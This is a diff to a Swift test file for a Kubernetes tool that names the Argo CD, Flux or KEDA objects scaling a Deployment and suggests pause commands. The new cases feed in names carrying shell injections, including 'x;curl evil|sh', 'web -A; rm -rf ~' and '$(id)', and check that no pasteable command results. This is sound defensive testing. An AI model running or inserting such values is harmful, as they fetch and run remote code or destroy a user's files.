@@ -1,4 +1,5 @@
 import ClusterSimulator
+import FoundationEssentials
 import Kubernetes
 import Synchronization
 import Testing
@@ -185,6 +186,30 @@ struct ManagersTests {
                 + "that: flux suspend kustomization apps -n flux-system"
         ),
         Case(
+            "an application of a name that a shell would run",
+            ["annotations": ["argocd.argoproj.io/tracking-id": "x;curl evil|sh:apps/Deployment:shop/web"]],
+            says:
+                "is scaled by the Argo CD application x;curl evil|sh, which may start it while it is stopped; to pause "
+                + "that: no command is given, since \"x;curl evil|sh\" is no name of an object"
+        ),
+        Case(
+            "an application of a name that a command would take for a flag",
+            ["annotations": ["argocd.argoproj.io/instance": "--grpc-web"]],
+            says: "is scaled by the Argo CD application --grpc-web, which may start it while it is stopped; to pause "
+                + "that: no command is given, since \"--grpc-web\" is no name of an object"
+        ),
+        Case(
+            "a Kustomization of a namespace that is none",
+            [
+                "labels": [
+                    "kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": "Flux_System",
+                ]
+            ],
+            says:
+                "is scaled by the Flux Kustomization Flux_System/apps, which may start it while it is stopped; to pause "
+                + "that: no command is given, since \"Flux_System\" is no name of an object"
+        ),
+        Case(
             "a HelmRelease of Flux",
             ["labels": ["helm.toolkit.fluxcd.io/name": "web", "helm.toolkit.fluxcd.io/namespace": "shop"]],
             says: "is scaled by the Flux HelmRelease shop/web, which may start it while it is stopped; to pause that: "
@@ -215,6 +240,41 @@ struct ManagersTests {
         let notes = scene.discover().notes
         #expect(notes.map(\.message) == [`case`.note].compactMap(\.self))
         #expect(notes.allSatisfy { $0.resource == "Deployment shop/web" && $0.namespace == "shop" })
+    }
+
+    @Test("is said of KEDA by its autoscaler, with a command only where the name that it gives can be one")
+    func kedaByItsAutoscaler() throws {
+        let deployment: JSON = [
+            "metadata": ["name": "web", "namespace": "shop", "uid": "u", "resourceVersion": "1"],
+            "spec": ["replicas": 1, "template": ["metadata": [:], "spec": [:]]],
+        ]
+        let object = try JSONDecoder().decode(WorkloadObject.self, from: deployment.text)
+        let workload = try #require(Workload(object, of: .deployments))
+        for (name, isPasteable) in [("web", true), ("web -A; rm -rf ~", false), ("$(id)", false), ("a/b/c", false)] {
+            let autoscaler: JSON = [
+                "metadata": [
+                    "name": "keda-hpa-web", "namespace": "shop", "uid": "v", "resourceVersion": "1",
+                    "ownerReferences": [
+                        [
+                            "apiVersion": "keda.sh/v1alpha1", "kind": "ScaledObject", "name": .string(name), "uid": "w",
+                            "controller": true,
+                        ]
+                    ],
+                ],
+                "spec": ["scaleTargetRef": ["apiVersion": "apps/v1", "kind": "Deployment", "name": "web"]],
+            ]
+            let scalers = Scalers(
+                autoscalers: [try JSONDecoder().decode(HorizontalPodAutoscaler.self, from: autoscaler.text)]
+            )
+            let pause = scalers.managers(of: workload).compactMap(\.pause)
+            #expect(
+                pause == [
+                    isPasteable
+                        ? "kubectl annotate scaledobject web -n shop autoscaling.keda.sh/paused=true"
+                        : "no command is given, since \"\(name)\" is no name of an object"
+                ]
+            )
+        }
     }
 
     @Test("needs nobody's permission: whoever may not list autoscalers goes on without")
